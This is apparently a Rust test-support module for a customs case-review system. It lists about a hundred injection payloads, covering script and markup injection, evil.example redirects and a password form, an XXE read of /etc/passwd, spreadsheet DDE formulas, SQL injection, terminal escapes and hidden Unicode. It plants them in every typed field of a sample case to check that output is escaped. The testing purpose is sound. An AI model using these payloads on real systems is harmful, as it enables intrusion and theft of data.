//! Texts that try to be more than texts, for every page, file and list that shows what somebody typed.

use crate::cases::Words;
use crate::review::file::CaseFile;
use crate::review::sheet::samples::Sample;
use crate::review::sheet::samples::ingots_as_lead;

/// A hundred attempts: markup, scripts, addresses, styles, pictures, formulas, printers' and terminals' codes, turned and hidden text.
pub(crate) fn payloads() -> Vec<String> {
    let mut out: Vec<String> = [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "\" onfocus=\"alert(1)\" autofocus=\"",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "</text></svg><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</desc></svg><img src=x onerror=alert(1)>",
        "</style><script>alert(1)</script>",
        "<style>*{display:none}</style>",
        "</table><h1>cleared</h1>",
        "</details></div></main>",
        "<iframe src=//evil.example></iframe>",
        "<a href=javascript:alert(1)>x</a>",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/x",
        "/\\evil.example",
        "vbscript:msgbox(1)",
        "url(//evil.example)",
        "expression(alert(1))",
        "@import '//evil.example/x.css';",
        "}</style>",
        "background:url('//evil.example')",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=password>",
        "<!-- ",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&amp;lt;b&amp;gt;",
        "<math><mtext></mtext></math>",
        "<template><script>alert(1)</script></template>",
        "<object data=x>",
        "<embed src=x>",
        "<link rel=stylesheet href=//evil.example>",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{% raw %}",
        "%s%s%n",
        "{}",
        "{0}",
        "{value:.0%}",
        "=1+1",
        "=HYPERLINK(\"http://evil.example?\"&A1,\"open\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u{a0}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "|calc",
        "%0A=1+1",
        "\u{feff}=1+1",
        "a\",\"=1+1",
        "a\"\r\n=1+1,b",
        "';DROP TABLE cases;--",
        "' OR '1'='1",
        "\0",
        "a\0b",
        "\u{1}\u{2}\u{7f}\u{80}\u{9f}",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\u{202e}gnitlem dael",
        "\u{2066}x\u{2069}",
        "zero\u{200b}width\u{200d}",
        "tag\u{e0041}\u{e007f}",
        "line\u{2028}para\u{2029}",
        ")Tj ET Q",
        "(\\)\\\\(",
        "endstream endobj",
        "<< /S /JavaScript /JS (app.alert(1)) >>",
        "%PDF-1.7 %%EOF",
        "<FEFF0041>",
        "\\u0000\\x3cscript\\x3e",
        "../../../../etc/passwd",
        "C:\\Windows\\System32",
        "عربى שלום",
        "e\u{301}\u{308}\u{323}\u{489}",
        "\u{1f600}\u{1f468}\u{200d}\u{1f469}",
        "锑锭\u{3000}＜script＞",
        "𠮷野家",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    out.push("锑".repeat(3000));
    out.push(format!("<{}>", "x".repeat(8000)));
    out
}

/// A case in which every text that somebody typed is the payload with a number of its own; and those texts by language.
///
/// Codes of closed lists (roles, lanes, families) are left as they are.
pub(crate) struct Infected {
    pub(crate) sample: Sample,
    /// English, Chinese, and both.
    typed: [Vec<String>; 3],
    payload: String,
    next: usize,
}

/// Which language shows a text.
#[derive(Clone, Copy)]
enum Shown {
    En,
    Zh,
    Both,
}

impl Infected {
    pub(crate) fn with(payload: &str) -> Infected {
        let sample = ingots_as_lead();
        let mut infected =
            Infected { sample: Sample::default(), typed: Default::default(), payload: payload.into(), next: 0 };
        let mut sample = sample;
        infected.dossier(&mut sample);
        infected.around(&mut sample);
        infected.sample = sample;
        infected
    }

    /// All typed texts that an English (`0`) or a Chinese (`1`) page or file must show in full.
    pub(crate) fn expected(&self, chinese: bool) -> impl Iterator<Item = &String> {
        self.typed[usize::from(chinese)].iter().chain(&self.typed[2])
    }

    /// The sample as a case file, its own texts infected too.
    pub(crate) fn case_file(&mut self) -> CaseFile<'static> {
        let sample = Box::leak(Box::new(std::mem::take(&mut self.sample)));
        let mut file = crate::review::file::samples::case_file(sample);
        let both = [&mut file.made_by, &mut file.authority];
        both.into_iter().for_each(|text| self.text(text, Shown::Both));
        self.words(&mut file.state);
        for decision in &mut file.decisions {
            [&mut decision.who, &mut decision.role, &mut decision.reason_code, &mut decision.note]
                .into_iter()
                .for_each(|text| self.text(text, Shown::Both));
            [&mut decision.verdict, &mut decision.reason].into_iter().for_each(|words| self.words(words));
        }
        for attachment in &mut file.attachments {
            self.text(&mut attachment.name, Shown::Both);
        }
        for entry in &mut file.audit.entries {
            [&mut entry.at, &mut entry.who, &mut entry.deed, &mut entry.content]
                .into_iter()
                .for_each(|text| self.text(text, Shown::Both));
        }
        file
    }

    fn text(&mut self, text: &mut String, shown: Shown) {
        *text = format!("{}«{}»", self.payload, self.next);
        self.next += 1;
        self.typed[shown as usize].push(text.clone());
    }

    fn words(&mut self, words: &mut Words) {
        self.text(&mut words.en, Shown::En);
        self.text(&mut words.zh, Shown::Zh);
    }

    fn dossier(&mut self, sample: &mut Sample) {
        let dossier = &mut sample.dossiers[0];
        let typed = [
            &mut dossier.run_id,
            &mut dossier.declaration_id,
            &mut dossier.office,
            &mut dossier.goods,
            &mut dossier.hs_code,
            &mut dossier.exporter_id,
            &mut dossier.exporter_name,
            &mut dossier.consignee_id,
            &mut dossier.consignee_name,
            &mut dossier.agent_id,
            &mut dossier.route,
            &mut dossier.scored_by,
        ];
        typed.into_iter().for_each(|text| self.text(text, Shown::Both));
        dossier.mineral.iter_mut().for_each(|text| self.text(text, Shown::Both));
        if let Some(typology) = &mut dossier.typology {
            self.text(&mut typology.code, Shown::Both);
            self.words(&mut typology.name);
        }
        for reason in &mut dossier.reasons {
            self.text(&mut reason.signal, Shown::Both);
            self.words(&mut reason.text);
        }
        let mut version = String::new();
        self.text(&mut version, Shown::Both);
        dossier.versions.insert("program".into(), version);
        for field in &mut dossier.record {
            [&mut field.column, &mut field.sad_box, &mut field.unit, &mut field.value]
                .into_iter()
                .for_each(|text| self.text(text, Shown::Both));
        }
        let evidence = &mut dossier.evidence;
        for word in &mut evidence.words {
            self.text(&mut word.word, Shown::Both);
            self.words(&mut word.says);
        }
        evidence.codes_by_words.iter_mut().for_each(|(code, _)| self.text(code, Shown::Both));
        for item in &mut evidence.control {
            [&mut item.item, &mut item.announcement].into_iter().for_each(|text| self.text(text, Shown::Both));
            [&mut item.title, &mut item.because].into_iter().for_each(|words| self.words(words));
        }
        if let Some(ledger) = &mut evidence.ledger {
            self.text(&mut ledger.element, Shown::Both);
            self.words(&mut ledger.window);
        }
        for party in &mut evidence.parties {
            [&mut party.declared, &mut party.listed, &mut party.source]
                .into_iter()
                .for_each(|text| self.text(text, Shown::Both));
        }
        evidence.way.iter_mut().for_each(|stop| self.words(&mut stop.name));
    }

    /// What only the page shows.
    fn around(&mut self, sample: &mut Sample) {
        for case in &mut sample.similar {
            [&mut case.number, &mut case.goods, &mut case.hs_code, &mut case.exporter, &mut case.destination]
                .into_iter()
                .for_each(|text| self.text(text, Shown::Both));
            case.link = self.payload.clone();
        }
        for entry in &mut sample.history {
            [&mut entry.at, &mut entry.who, &mut entry.note].into_iter().for_each(|text| self.text(text, Shown::Both));
            self.words(&mut entry.deed);
        }
    }

    /// Texts of the page that the printed file leaves out: what would clear it, the network, the tokens, the signals.
    pub(crate) fn on_the_page(&mut self) {
        let mut sample = std::mem::take(&mut self.sample);
        let dossier = &mut sample.dossiers[0];
        if let Some(clearing) = &mut dossier.clearing {
            self.words(&mut clearing.text);
        }
        for signal in &mut dossier.signals {
            self.text(&mut signal.signal, Shown::Both);
            self.words(&mut signal.title);
        }
        dossier.evidence.materials.iter_mut().for_each(|(name, _)| self.text(name, Shown::Both));
        for party in &mut dossier.evidence.parties {
            for (declared, listed, _) in &mut party.tokens {
                self.text(declared, Shown::Both);
                self.text(listed, Shown::Both);
            }
        }
        for among in [
            &mut dossier.evidence.price,
            &mut dossier.evidence.own_price,
            &mut dossier.evidence.tare,
            &mut dossier.evidence.density,
        ] {
            among.iter_mut().for_each(|among| self.words(&mut among.peers));
        }
        dossier.evidence.network.nodes.iter_mut().for_each(|node| self.text(&mut node.label, Shown::Both));
        for line in sample.exporter.iter_mut().chain(&mut sample.consignee).rev().take(3) {
            [&mut line.declaration_id, &mut line.hs_code, &mut line.destination]
                .into_iter()
                .for_each(|text| self.text(text, Shown::Both));
        }
        for alike in sample.similar.iter_mut().flat_map(|case| &mut case.alike) {
            self.words(alike);
        }
        self.sample = sample;
    }
}

#[test]
fn there_are_a_hundred_different_payloads() {
    let mut payloads = payloads();
    assert!(payloads.len() >= 100, "{}", payloads.len());
    payloads.sort();
    payloads.dedup();
    assert!(payloads.len() >= 100);
}
